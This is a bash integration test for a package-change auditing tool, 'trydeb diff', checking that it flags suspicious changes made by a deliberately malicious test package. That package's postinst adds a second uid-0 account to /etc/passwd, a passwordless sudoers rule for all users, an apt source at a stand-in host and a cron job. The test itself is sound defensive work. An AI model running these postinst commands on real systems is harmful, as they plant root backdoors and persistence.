#!/bin/bash
# A postinst that adds a user to /etc/passwd and writes a sudoers file, an apt source and a
# cron job: `trydeb diff` lists each with its kind, the maintainer-script attribution and
# its suspicious reason; --suspicious, --json, PKG, --transaction and --path agree.
. "$ITEST_DIR/lib.sh"

[[ -f /etc/passwd ]] || skip "no /etc/passwd on this machine"
sudoers_dir_new=
[[ -d /etc/sudoers.d ]] || sudoers_dir_new=1 # the postinst creates it

benign=$(make_pkg trydeb-benign 1.0 --file /usr/share/trydeb-benign/data "benign")
evil=$(make_pkg trydeb-evil 2.0-1 --file /usr/share/trydeb-evil/README "evil" --postinst '
echo "trydeb-evil:x:0:0:evil:/root:/bin/sh" >> /etc/passwd
mkdir -p /etc/sudoers.d /etc/apt/sources.list.d /etc/cron.d
echo "ALL ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/evil
chmod 0440 /etc/sudoers.d/evil
echo "deb http://evil.example.invalid/debian stable main" > /etc/apt/sources.list.d/evil.list
echo "* * * * * root /bin/true" > /etc/cron.d/evil')

assert_exit 0 td install "$benign"
assert_exit 0 td install "$evil"
tx_b=$(tx_of trydeb-benign)
tx_e=$(tx_of trydeb-evil)
[[ "$tx_b" != "$tx_e" ]] || fail "both installs have transaction $tx_b"
by_scripts=$(attr_scripts trydeb-evil "$tx_e")
note "transactions: trydeb-benign $tx_b, trydeb-evil $tx_e"

# the four suspicious files and their reasons
declare -A reason=(
    [/etc/passwd]="a second root account: trydeb-evil; users or groups changed" # its uid is 0
    [/etc/sudoers.d/evil]="sudoers"
    [/etc/apt/sources.list.d/evil.list]="apt source"
    [/etc/cron.d/evil]="cron job"
)
declare -A kind=(
    [/etc/passwd]=modified
    [/etc/sudoers.d/evil]=added
    [/etc/apt/sources.list.d/evil.list]=added
    [/etc/cron.d/evil]=added
)
expected_suspicious=$(printf '%s\n' "${!reason[@]}" | LC_ALL=C sort)

# the suspicious paths of TEXT, sorted; /etc/sudoers.d itself may be flagged as well when the
# host has no such directory (the postinst created it), as "sudoers" only
suspicious_paths() {
    local pairs=$1 extra
    extra=$(awk -F'\t' '$1 == "/etc/sudoers.d"' <<<"$pairs")
    if [[ -n "$extra" ]]; then
        [[ -n "$sudoers_dir_new" ]] || fail "/etc/sudoers.d (which the host has) is flagged: $extra"
        [[ "$extra" == $'/etc/sudoers.d\tsudoers' ]] || fail "/etc/sudoers.d is flagged with another reason than 'sudoers': $extra"
    fi
    awk -F'\t' '$1 != "/etc/sudoers.d" { print $1 }' <<<"$pairs" | LC_ALL=C sort -u
}

# ------------------------------------------------------------------ the whole diff
assert_exit 0 td diff
full=$OUT
note "trydeb diff:"$'\n'"$full"
assert_diff_format "$full"
for p in "${!reason[@]}"; do
    assert_diff_has "$full" "${kind[$p]}" "$p" "$by_scripts"
    assert_suspicious "$full" "$p" "${reason[$p]}"
done
assert_diff_has "$full" added /usr/share/trydeb-evil/README "$(attr_pkg trydeb-evil 2.0-1)"
assert_diff_has "$full" added /usr/share/trydeb-benign/data "$(attr_pkg trydeb-benign 1.0)"
assert_not_suspicious "$full" /usr/share/trydeb-evil/README
assert_not_suspicious "$full" /usr/share/trydeb-benign/data
got=$(suspicious_paths "$(diff_suspicious "$full")")
assert_eq "$expected_suspicious" "$got" \
    "the paths of the Suspicious block of trydeb diff"
# the directories the files went into were there before: not changes
for d in /etc /etc/apt /etc/apt/sources.list.d /etc/cron.d; do
    [[ -d $d ]] && assert_diff_lacks "$full" "$d"
done

# ------------------------------------------------------------------ --suspicious
assert_exit 0 td diff --suspicious
susp=$OUT
note "trydeb diff --suspicious:"$'\n'"$susp"
assert_no_stacktrace "$susp"
# either the diff's format restricted to suspicious changes, or only "  PATH: REASON" lines:
# collect the paths of change lines and of reason lines; nothing else may be printed
pairs=$(sed -nE 's/^[[:space:]]+(\/[^[:space:]]*): (.*[^[:space:]])[[:space:]]*$/\1\t\2/p' <<<"$susp")
other=$(grep -vE '^[[:space:]]*$|^Suspicious:[[:space:]]*$|^[[:space:]]+/[^[:space:]]*: ' <<<"$susp" || true)
bad=$(diff_changes "$other" | awk -F'\t' '$1 == "?" { print $2 }')
[[ -z "$bad" ]] || fail "trydeb diff --suspicious prints lines that are neither changes nor '  PATH: REASON':"$'\n'"$bad"
change_paths=$(diff_paths "$other")
if [[ -n "$change_paths" ]]; then
    cp_filtered=$change_paths
    [[ -z "$sudoers_dir_new" ]] || cp_filtered=$(grep -vx /etc/sudoers.d <<<"$change_paths" || true)
    assert_eq "$expected_suspicious" "$cp_filtered" "the change lines of trydeb diff --suspicious"
fi
got=$(suspicious_paths "$pairs")
assert_eq "$expected_suspicious" "$got" "the paths flagged by trydeb diff --suspicious"
for p in "${!reason[@]}"; do
    got=$(awk -F'\t' -v p="$p" '$1 == p { print $2 }' <<<"$pairs")
    assert_eq "${reason[$p]}" "$got" "the reason given for $p by trydeb diff --suspicious"
    if [[ -n "$change_paths" ]]; then
        assert_diff_has "$other" "${kind[$p]}" "$p" "$by_scripts"
    fi
done

# ------------------------------------------------------------------ --json
assert_exit 0 td diff --json
rows=$(diff_json_rows "$OUT_FILE")
note "trydeb diff --json as rows:"$'\n'"$rows"
json_row() { awk -F'\t' -v p="$1" '$1 == p' <<<"$rows"; }
for p in "${!reason[@]}"; do
    row=$(json_row "$p")
    [[ -n "$row" ]] || fail "trydeb diff --json has no object for $p"
    IFS=$'\t' read -r _ j_kind j_source j_pkg j_ver j_tx j_susp <<<"$row"
    assert_eq "${kind[$p]}" "$j_kind" "kind of $p in --json"
    assert_eq maintainer-script "$j_source" "source of $p in --json"
    assert_eq trydeb-evil "$j_pkg" "package of $p in --json"
    [[ "$j_ver" == 2.0-1 || "$j_ver" == null ]] || fail "version of $p in --json is '$j_ver' (expected 2.0-1 or null)"
    assert_eq "$tx_e" "$j_tx" "transaction of $p in --json"
    assert_eq "${reason[$p]}" "$j_susp" "suspicious of $p in --json"
done
row=$(json_row /usr/share/trydeb-evil/README)
[[ -n "$row" ]] || fail "trydeb diff --json has no object for /usr/share/trydeb-evil/README"
IFS=$'\t' read -r _ j_kind j_source j_pkg j_ver j_tx j_susp <<<"$row"
assert_eq "added package trydeb-evil 2.0-1 null" "$j_kind $j_source $j_pkg $j_ver $j_susp" \
    "kind, source, package, version and suspicious of /usr/share/trydeb-evil/README in --json"
[[ "$j_tx" == "$tx_e" || "$j_tx" == null ]] || fail "transaction of /usr/share/trydeb-evil/README in --json is '$j_tx'"
# the same changes as the text
assert_eq "$(diff_changes "$full" | awk -F'\t' '{ print $2, $1 }' | LC_ALL=C sort)" \
    "$(awk -F'\t' '{ print $1, $2 }' <<<"$rows" | LC_ALL=C sort)" "paths and kinds of trydeb diff --json and trydeb diff"
json_susp=$(awk -F'\t' '$7 != "null" { print $1 "\t" $7 }' <<<"$rows")
got=$(suspicious_paths "$json_susp")
assert_eq "$expected_suspicious" "$got" "the suspicious objects of trydeb diff --json"

# ------------------------------------------------------------------ filters
# PKG: what the package shipped and what its scripts did, nothing of the other package
assert_exit 0 td diff trydeb-evil
by_pkg=$OUT
assert_diff_format "$by_pkg"
for p in "${!reason[@]}"; do
    assert_diff_has "$by_pkg" "${kind[$p]}" "$p" "$by_scripts" "trydeb diff trydeb-evil does not list its script's change of $p"
done
assert_diff_has "$by_pkg" added /usr/share/trydeb-evil/README "$(attr_pkg trydeb-evil 2.0-1)"
assert_diff_lacks "$by_pkg" /usr/share/trydeb-benign/data "trydeb diff trydeb-evil lists trydeb-benign's file"
foreign=$(diff_changes "$by_pkg" | awk -F'\t' -v a="$by_scripts" -v b="$(attr_pkg trydeb-evil 2.0-1)" '$3 != a && $3 != b')
[[ -z "$foreign" ]] || fail "trydeb diff trydeb-evil lists changes attributed to something else:"$'\n'"$foreign"

assert_exit 0 td diff trydeb-benign
assert_diff_has "$OUT" added /usr/share/trydeb-benign/data "$(attr_pkg trydeb-benign 1.0)"
for p in "${!reason[@]}" /usr/share/trydeb-evil/README; do
    assert_diff_lacks "$OUT" "$p" "trydeb diff trydeb-benign lists trydeb-evil's change of $p"
done

# --transaction N: the same as the package of that transaction
assert_exit 0 td diff --transaction "$tx_e"
assert_diff_format "$OUT"
assert_eq "$(diff_changes "$by_pkg" | LC_ALL=C sort)" "$(diff_changes "$OUT" | LC_ALL=C sort)" \
    "trydeb diff --transaction $tx_e and trydeb diff trydeb-evil"
assert_exit 0 td diff --transaction "$tx_b"
assert_diff_has "$OUT" added /usr/share/trydeb-benign/data "$(attr_pkg trydeb-benign 1.0)"
for p in "${!reason[@]}"; do
    assert_diff_lacks "$OUT" "$p" "trydeb diff --transaction $tx_b lists a change of transaction $tx_e"
done

# --path PREFIX
assert_exit 0 td diff --path /etc/cron.d
cron=$OUT
note "trydeb diff --path /etc/cron.d:"$'\n'"$cron"
assert_diff_format "$cron"
assert_diff_has "$cron" added /etc/cron.d/evil "$by_scripts"
assert_suspicious "$cron" /etc/cron.d/evil "cron job"
outside=$(diff_paths "$cron" | grep -vE '^/etc/cron\.d(/|$)' || true)
[[ -z "$outside" ]] || fail "trydeb diff --path /etc/cron.d lists paths outside /etc/cron.d:"$'\n'"$outside"
outside=$(diff_suspicious "$cron" | cut -f1 | grep -vE '^/etc/cron\.d(/|$)' || true)
[[ -z "$outside" ]] || fail "trydeb diff --path /etc/cron.d flags paths outside /etc/cron.d:"$'\n'"$outside"
assert_exit 0 td diff --path /etc/cron.d --json
want="/etc/cron.d/evil added"
[[ -d /etc/cron.d ]] || want=$'/etc/cron.d new-directory\n'"$want" # the postinst created it
rows=$(diff_json_rows "$OUT_FILE")
assert_eq "$want" "$(awk -F'\t' '{ print $1, $2 }' <<<"$rows" | LC_ALL=C sort)" \
    "trydeb diff --path /etc/cron.d --json"

# --runtime: nothing ran
assert_exit 0 td diff --runtime
assert_eq "no changes" "$OUT" "trydeb diff --runtime after installs only"
assert_exit 0 td diff --runtime --json
assert_eq "[]" "$(tr -d ' \n' <<<"$OUT")" "trydeb diff --runtime --json after installs only"
